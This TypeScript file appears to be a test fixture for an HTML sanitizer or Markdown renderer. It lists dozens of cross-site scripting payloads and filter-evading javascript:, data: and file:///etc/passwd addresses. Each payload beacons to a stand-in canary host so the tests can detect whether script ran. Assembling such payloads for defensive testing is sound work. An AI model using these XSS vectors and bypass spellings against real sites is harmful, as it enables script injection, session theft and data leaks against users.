/** Changes the title and calls a server; both are looked for. */
const RUN = "document.title='RAN';new Image().src='http://canary.example/ran'";

/** Markup that runs script or asks for something where it is taken for markup. */
export const HOSTILE_MARKUP: readonly string[] = [
  `<script>RUN</script>`,
  `<img src="http://canary.example/img" onerror="RUN">`,
  `<img src=x onerror=RUN//`,
  `</title></style></textarea></script><script>RUN</script>`,
  `--><script>RUN</script><!--`,
  `]]><script>RUN</script><![CDATA[`,
  `"><img src=x onerror="RUN">`,
  `' onmouseover='RUN' x='`,
  `<svg onload="RUN"><script>RUN</script><image href="http://canary.example/svg"/></svg>`,
  `<svg><a xlink:href="javascript:RUN"><text y="9">甲</text></a><animate onbegin="RUN" attributeName="x" dur="1s"/></svg>`,
  `<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;"></mglyph></mtext></math>`,
  `<details open ontoggle="RUN"><summary>乙</summary>丙</details>`,
  `<iframe srcdoc="<script>parent.RUN</script>"></iframe><iframe src="javascript:parent.RUN"></iframe>`,
  `<object data="http://canary.example/object"></object><embed src="http://canary.example/embed">`,
  `<video src="http://canary.example/video" poster="http://canary.example/poster" onerror="RUN"></video>`,
  `<input autofocus onfocus="RUN"><button onclick="RUN">丁</button>`,
  `<form action="http://canary.example/form"><input type="image" src="http://canary.example/input"></form>`,
  `<style>@import url(http://canary.example/import);p{background:url(http://canary.example/css)}</style>`,
  `<link rel="stylesheet" href="http://canary.example/link"><link rel="preload" as="image" href="http://canary.example/preload">`,
  `<base href="http://canary.example/"><meta http-equiv="refresh" content="1;url=http://canary.example/refresh">`,
  `<p style="background:url(http://canary.example/style)" onmouseover="RUN" tabindex="0">戊</p>`,
  `<table background="http://canary.example/table"><tr><td onclick="RUN">己</td></tr></table>`,
  `<div><template shadowrootmode="open"><img src="x" onerror="RUN"></template></div>`,
  `<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>`,
  `<a href="javascript:RUN" ping="http://canary.example/ping">庚</a>`,
  // Signs of Markdown that could set markup free.
  '```\n</code></pre><script>RUN</script>\n```',
  '    <script>RUN</script>',
  `\n\n<script>RUN</script>\n\n`,
  `[x](<javascript:RUN>) ![x](http://canary.example/md "onerror=RUN") [x]: javascript:RUN`,
  `<javascript:RUN> [x][y]\n\n[y]: javascript:RUN`,
  `\\<script>RUN</script> \\\\<script>RUN</script> &lt;script&gt;RUN&lt;/script&gt;`,
  `![x"onerror="RUN](http://canary.example/alt)`,
  `*<img src=x onerror=RUN>* **<script>RUN</script>** \`<script>RUN</script>\``,
].map(markup => markup.replaceAll('RUN', RUN));

/** Addresses that run script, in the spellings that have fooled filters. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  ' javascript:RUN',
  '\u0001javascript:RUN',
  'javascript&colon;RUN',
  'vbscript:RUN',
  'data:text/html,<script>RUN</script>',
  'blob:http://a.example/1',
  'file:///etc/passwd',
  'http://a.example/)![x](http://canary.example/url)',
  'http://a.example/" onmouseover="RUN',
  'http://a.example/> <script>RUN</script>',
  'http://a.example/\n\n<script>RUN</script>',
].map(address => address.replaceAll('RUN', RUN));
